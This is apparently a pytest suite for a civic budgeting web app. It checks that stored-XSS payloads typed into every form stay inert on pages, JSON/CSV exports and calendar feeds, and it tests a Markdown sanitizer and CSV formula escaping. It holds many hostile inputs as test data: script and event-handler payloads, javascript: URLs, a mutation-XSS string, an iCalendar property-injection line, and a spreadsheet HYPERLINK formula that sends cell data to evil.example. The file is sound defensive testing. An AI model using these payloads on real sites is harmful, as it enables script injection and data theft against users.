"""Stored XSS: script, event-handler and javascript: payloads typed into every text field people
can fill in, through the real forms, stay inert on every page, feed and file that shows them.

"Inert" is checked on the parsed page, not on its text: no <script> except our own files under
/static/, no attribute named on…, no href/src/action with a javascript: or data: URL, no
<iframe>/<object>/<embed>, no <img src=x>. Each page must also show the payload as visible text —
otherwise the check would pass on a page that simply does not show the field. JSON, CSV and
iCalendar are not HTML: they must say what they are (Content-Type, nosniff) and carry the text
unchanged; the calendar must not let a value break out into a property of its own.
"""
import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser

import icalendar
import pytest
from sqlalchemy import select

from app.core.markdown import render_markdown
from app.extensions import db
from app.models import Area, Category, Comment, PhaseKind, Proposal, Result
from meetings.models import Meeting

from .conftest import KEY_FILES, make_user, move_to_phase, open_voting

EN = {"Accept-Language": "en"}


def payload(tag: str) -> str:
    """Every classic payload at once; ``tag`` tells the fields apart on a page."""
    return (f'{tag} <script>alert("{tag}")</script> "><img src=x onerror=alert(1)> <svg onload=alert(1)> '
            '[x](javascript:alert(1)) <a href="javascript:alert(1)">y</a> <iframe src=//evil.example>')


def seen(tag: str) -> str:
    """What a reader must see where the field is shown: the script as text."""
    return f'<script>alert("{tag}")</script>'


class LiveMarkup(HTMLParser):
    """Collects what a browser would run, and the visible text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.text: list[str] = []
        self.styled: list[str] = []  # elements with a style attribute (the policy allows none)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if "style" in attrs:
            self.styled.append(tag)
        if tag == "script" and not (attrs.get("src") or "").startswith("/static/"):
            self.live.append(f"<script {attrs}>")
        if tag in ("iframe", "object", "embed", "frame", "base"):
            self.live.append(f"<{tag} {attrs}>")
        if tag == "img" and attrs.get("src") == "x":
            self.live.append(f"<img {attrs}>")
        for name, value in attrs.items():
            if name == "value" or (tag == "input" and name == "placeholder"):
                self.text.append(value or "")  # what a form field shows
            if name.startswith("on"):
                self.live.append(f"<{tag} {name}={value!r}>")
            url = "".join((value or "").split()).lower()
            if name in ("href", "src", "action", "formaction", "xlink:href", "srcdoc") and \
                    url.startswith(("javascript:", "data:", "vbscript:")):
                self.live.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def inert_html(html: str) -> tuple[list[str], str]:
    parser = LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.live, "".join(parser.text)


# --- the data, entered through the forms ----------------------------------------------------------

@pytest.fixture
def stored(app, client, areas, users, open_process, log_in):
    """Payloads in every text field, each entered by the person who would type it."""
    esil = areas["Esil district"]
    okrug = areas["Esil district / okrug 7"]
    budget = open_process.budgets[0]

    def post(path, data, **kwargs):
        response = client.post(path, data=data, headers=EN, **kwargs)
        assert response.status_code == 302, (path, response.get_data(as_text=True)[:3000])
        return response

    def as_(user):
        client.post("/auth/logout")
        log_in(user)

    # Administration: an area, a category, a budget name.
    as_(users["admin"])
    post("/admin/areas/new", {"parent_id": esil.id, "kind": "okrug", "kato": "", "name_kk": payload("AREA"),
                              "name_ru": payload("AREA"), "name_en": payload("AREA")})
    post(f"/admin/processes/{open_process.id}/categories",
         {"code": "xss", "name_kk": payload("CAT"), "name_ru": payload("CAT"), "name_en": payload("CAT")})
    category = db.session.scalar(select(Category).where(Category.code == "xss"))
    post(f"/admin/budgets/{budget.id}/edit", {"area_id": esil.id, "name_kk": payload("BUDGET"),
                                              "name_ru": payload("BUDGET"), "name_en": payload("BUDGET"),
                                              "amount": "100000000", "limit_value": "20000000", "limit_unit": "tenge"})

    # The resident: name, a proposal (title, Markdown description, address).
    as_(users["resident"])
    post("/auth/profile", {"profile-full_name": payload("NAME"), "profile-phone": "",
                           "profile-home_area": okrug.id, "profile-locale": "en", "profile-submit": "1"})
    post("/proposals/new", {"budget_id": budget.id, "title": payload("TITLE"), "description": payload("DESC"),
                            "category_id": category.id, "address": payload("ADDR")[:300],
                            "estimated_cost": "5000000", "submit": "1"}, content_type="multipart/form-data")
    proposal = db.session.scalar(select(Proposal))

    # A neighbour comments; the resident reports the comment.
    neighbour = make_user(home=okrug)
    as_(neighbour)
    post(f"/proposals/{proposal.id}/comments", {"body": payload("COMMENT"), "stance": "for"})
    comment = db.session.scalar(select(Comment))
    as_(users["resident"])
    post(f"/comments/{comment.id}/report", {"reason": payload("REPORT")})
    post(f"/proposals/{proposal.id}/report", {"reason": payload("PREPORT")})

    # The akimat reviews with a note and places it on the ballot.
    as_(users["akimat"])
    post(f"/proposals/{proposal.id}/review", {"decision": "feasible", "final_cost": "5000000",
                                              "reason": payload("REVIEW")})
    post(f"/proposals/{proposal.id}/ballot", {})

    # The deputy holds a town hall about it: title, description, venue, a free agenda item,
    # minutes (summary, decision note, an action item) and a correction.
    as_(users["deputy"])
    day = (date.today() + timedelta(days=2)).isoformat()
    post("/meetings/new", {"area_id": okrug.id, "title": payload("MEETING"),
                           "description": payload("MDESC") + "\nATTACH:https://evil.example/x\nBEGIN:VEVENT",
                           "kind": "in_person", "venue": payload("VENUE"), "address": payload("MADDR"),
                           "day": day, "starts": "18:00", "ends": "20:00", "proposal_ids": [proposal.id],
                           "free_items": payload("AGENDA")})
    meeting = db.session.scalar(select(Meeting))
    meeting.starts_at = datetime.now(UTC) - timedelta(hours=2)
    meeting.ends_at = datetime.now(UTC) - timedelta(hours=1)
    db.session.commit()
    item = next(i for i in meeting.agenda if i.proposal_id)
    post(f"/meetings/{meeting.id}/minutes", {
        "attendance_count": "10", "summary": payload("SUMMARY"), f"decision-{item.id}": "endorsed",
        f"note-{item.id}": payload("NOTE"), "action_rows": "1", "what-0": payload("ACTION"),
        "owner-0": str(users["akimat"].id), "due-0": (date.today() - timedelta(days=3)).isoformat(),
        "publish": "1"})
    post(f"/meetings/{meeting.id}/corrections", {"text": payload("CORRECTION"), "proposal_ids": [proposal.id]})

    # Voting, counting and publishing; then the implementation report and a milestone.
    open_voting(open_process, users["akimat"])
    as_(users["resident"])
    post(f"/budgets/{budget.id}/vote/cast", {"chosen": str(proposal.id)})
    move_to_phase(open_process, PhaseKind.RESULTS)
    as_(users["akimat"])
    post(f"/budgets/{budget.id}/count", {"key_file": (io.BytesIO(KEY_FILES[budget.id]), "keys.json")})
    post(f"/results/{db.session.scalar(select(Result.id))}/publish", {})
    move_to_phase(open_process, PhaseKind.IMPLEMENTATION)
    post(f"/proposals/{proposal.id}/implementation", {"status": "in_progress", "progress": "20", "spent": "1000",
                                                      "note": payload("IMPL")})
    post(f"/proposals/{proposal.id}/implementation", {"what": "milestone", "title": payload("MILESTONE"),
                                                      "starts_on": (date.today() - timedelta(days=9)).isoformat(),
                                                      "planned_on": (date.today() - timedelta(days=2)).isoformat()})

    # The moderator hides the comment, with a reason shown in its place.
    as_(users["moderator"])
    post(f"/comments/{comment.id}/hide", {"reason": payload("HIDE")})
    client.post("/auth/logout")
    new_area = db.session.scalar(select(Area).where(Area.name_en == payload("AREA")))
    return {"proposal": proposal, "meeting": meeting, "budget": budget, "process": open_process,
            "category": category, "esil": esil, "okrug": okrug, "area": new_area, "deputy": users["deputy"]}


# Which page must show which fields, and who looks at it (None: a visitor).
def pages(s, users):
    p, m, b = s["proposal"], s["meeting"], s["budget"]
    return [
        (None, f"/proposals/{p.id}", ["TITLE", "DESC", "ADDR", "NAME", "CAT", "REVIEW", "NOTE", "CORRECTION",
                                      "IMPL", "HIDE", "MEETING"]),
        (None, "/proposals", ["TITLE", "CAT", "BUDGET"]),
        (None, "/proposals?q=TITLE", ["TITLE"]),
        (None, "/", []),
        (None, "/meetings?when=past", ["MEETING"]),
        (None, f"/meetings/{m.id}", ["MEETING", "MDESC", "VENUE", "MADDR", "AGENDA", "TITLE", "SUMMARY", "NOTE",
                                     "ACTION", "CORRECTION"]),
        (None, f"/deputies/{s['deputy'].id}", ["MEETING"]),
        (None, f"/budgets/{b.id}/results", ["TITLE", "BUDGET"]),
        (None, f"/budgets/{b.id}/results/protocol", ["TITLE", "BUDGET"]),
        (None, f"/areas/{s['esil'].id}/dashboard", ["TITLE", "MEETING", "ACTION"]),
        ("resident", "/me", ["TITLE", "MEETING"]),
        ("resident", "/notifications", ["TITLE"]),
        ("resident", "/auth/profile", ["NAME"]),
        ("moderator", "/moderation", ["PREPORT"]),
        ("akimat", f"/proposals/{p.id}/implementation", ["TITLE", "MILESTONE"]),
        ("akimat", f"/budgets/{b.id}/results/manage", []),
        ("akimat", "/action-items/overdue", ["ACTION", "MEETING"]),
        ("deputy", f"/meetings/{m.id}/minutes", ["MEETING"]),  # published: the notice, no form
        (None, f"/meetings/{m.id}/protocol", ["MEETING", "TITLE", "SUMMARY", "NOTE", "ACTION"]),
        ("deputy", f"/meetings/{m.id}/attendance-sheet", ["MEETING"]),
        ("admin", "/admin/areas", ["AREA"]),
        ("admin", f"/admin/processes/{s['process'].id}", ["BUDGET"]),
        ("admin", f"/admin/processes/{s['process'].id}/categories", ["CAT"]),
        ("admin", "/admin/audit", []),
        ("admin", f"/admin/areas/{s['area'].id}/edit", ["AREA"]),
    ]


def test_payloads_in_every_field_are_inert_on_every_page(client, users, stored, log_in):
    problems = []
    for who, path, tags in pages(stored, users):
        client.post("/auth/logout")
        if who:
            log_in(users[who])
        response = client.get(path, headers=EN)
        assert response.status_code == 200, path
        live, text = inert_html(response.get_data(as_text=True))
        problems += [f"{path}: live {item}" for item in live]
        problems += [f"{path}: {tag} is not shown as text" for tag in tags if seen(tag) not in text]
    assert not problems, "\n".join(problems)


def test_open_data_carries_the_text_unchanged_and_is_never_html(client, stored):
    p, m, b, process = stored["proposal"], stored["meeting"], stored["budget"], stored["process"]
    for path, tags in [(f"/api/v1/proposals/{p.id}", ["TITLE", "DESC"]), ("/api/v1/proposals", ["TITLE"]),
                       (f"/api/v1/meetings/{m.id}", ["MEETING", "SUMMARY", "ACTION"]),
                       (f"/api/v1/budgets/{b.id}/results", []), ("/api/v1/areas", ["AREA"]),
                       (f"/api/v1/processes/{process.id}/export/proposals.json", ["TITLE", "CAT"])]:
        response = client.get(path)
        assert response.status_code == 200, path
        assert response.mimetype == "application/json", path
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        text = json.dumps(response.get_json(), ensure_ascii=False)
        for tag in tags:
            assert json.dumps(payload(tag), ensure_ascii=False)[1:-1] in text, (path, tag)

    for path in (f"/api/v1/processes/{process.id}/export/proposals.csv", f"/api/v1/budgets/{b.id}/results.csv"):
        response = client.get(path)
        assert response.mimetype == "text/csv" and response.headers["X-Content-Type-Options"] == "nosniff", path
        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
        assert payload("TITLE") in [row["title"] for row in rows], path


def test_calendar_values_cannot_break_out_into_properties_of_their_own(client, stored):
    m = stored["meeting"]
    for path in (f"/meetings/{m.id}.ics", f"/areas/{stored['okrug'].id}/meetings.ics"):
        response = client.get(path)
        assert response.mimetype == "text/calendar", path
        calendar = icalendar.Calendar.from_ical(response.get_data())
        events = list(calendar.walk("VEVENT"))
        assert len(events) == 1, path
        event = events[0]
        assert str(event["summary"]) == payload("MEETING")
        assert str(event["description"]).startswith(payload("MDESC"))
        assert "ATTACH" not in event and payload("VENUE") in str(event["location"])


# --- the Markdown sanitizer ----------------------------------------------------------------------

def test_markdown_keeps_the_allowed_formatting():
    html = render_markdown("# Big\n\n## Smaller\n\n**bold** *it* `code`\n\n- one\n- two\n\n1. first\n\n> quoted\n\n"
                           "```\nblock\n```\n\n---")
    for fragment in ("<h3>Big</h3>", "<h4>Smaller</h4>", "<strong>bold</strong>", "<em>it</em>", "<code>code</code>",
                     "<ul>", "<li>one</li>", "<ol>", "<blockquote>", "<pre><code>block", "<hr>"):
        assert fragment in html, fragment
    assert "<h1" not in html and "<h2" not in html  # never competes with the page's headings


def test_markdown_links_are_kept_only_for_web_and_mail_and_never_pass_rank():
    html = render_markdown('[site](https://example.kz "Title") [mail](mailto:a@example.kz) [web](http://example.kz)')
    assert html.count('rel="nofollow noopener noreferrer"') == 3
    assert 'href="https://example.kz"' in html and 'title="Title"' in html and 'href="mailto:a@example.kz"' in html
    for bad in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=",
                "java%0ascript:alert(1)", "&#106;avascript:alert(1)", "file:///etc/passwd"):
        html = render_markdown(f"[x]({bad}) <{bad}>")
        live, _ = inert_html(html)
        assert not live, (bad, html)
        assert not any(scheme in html.lower() for scheme in ('href="javascript', 'href="vbscript', 'href="data',
                                                              'href="file')), (bad, html)


@pytest.mark.parametrize("evil", [
    "<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>", '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>body{display:none}</style>", '<a href="javascript:alert(1)">x</a>', "<object data=x></object>",
    "<details open ontoggle=alert(1)>", "![img](https://evil.example/track.png)", '<form action="https://evil"><input>',
    "<<script>script>alert(1)<</script>/script>", "<!-- <script> -->", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
])
def test_markdown_strips_raw_html_images_frames_and_styles(evil):
    html = render_markdown(f"before {evil} after")
    live, text = inert_html(html)
    assert not live, html
    for tag in ("<script", "<img", "<svg", "<iframe", "<style", "<object", "<details", "<form", "<input", "<math"):
        assert tag not in html.lower(), (tag, html)
    parser = LiveMarkup()
    parser.feed(html)
    assert not parser.styled, html
    assert "before" in text and "after" in text  # the rest of the text survives


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_open_as_text(client, areas, users, open_process):
    """CSV injection: a title like '=HYPERLINK(...)' must not become a live formula when an
    official opens the export in Excel; the JSON export keeps the title exactly as written."""
    from app.models import Proposal

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    budget = open_process.budgets[0]
    for n, title in enumerate([formula, "+7 701 000", "-1+1", "@SUM(A1)", "Ordinary - title"]):
        db.session.add(Proposal(process=open_process, budget=budget, area=areas["Esil district / okrug 7"],
                                author=users["resident"], title=title, description="x", description_html="<p>x</p>",
                                address="Astana", estimated_cost=1_000_000 + n, status="submitted"))
    db.session.commit()
    response = client.get(f"/api/v1/processes/{open_process.id}/export/proposals.csv")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    titles = {row["title"] for row in rows}
    assert titles == {"'" + formula, "'+7 701 000", "'-1+1", "'@SUM(A1)", "Ordinary - title"}
    assert {row["estimated_cost_kzt"] for row in rows} == {str(1_000_000 + n) for n in range(5)}  # numbers untouched
    exported = client.get(f"/api/v1/processes/{open_process.id}/export/proposals.json").get_json()
    assert formula in {row["title"] for row in exported["rows"]}


def test_a_message_formatted_with_a_typed_name_is_escaped_on_the_page(app, ctx):
    """Flask-Babel marks its lazy strings as safe HTML, so a message made with ``_l(...)`` around a
    name someone typed (a budget, an area, a person) would reach a page as live markup; every such
    message is escaped like any other text."""
    from flask import render_template_string
    from flask_babel import lazy_gettext

    message = lazy_gettext("%(budget)s has no proposals yet.", budget='<img src=x onerror="alert(1)">')
    page = render_template_string("<p>{{ message }}</p>", message=message)
    assert "<img" not in page and "&lt;img" in page
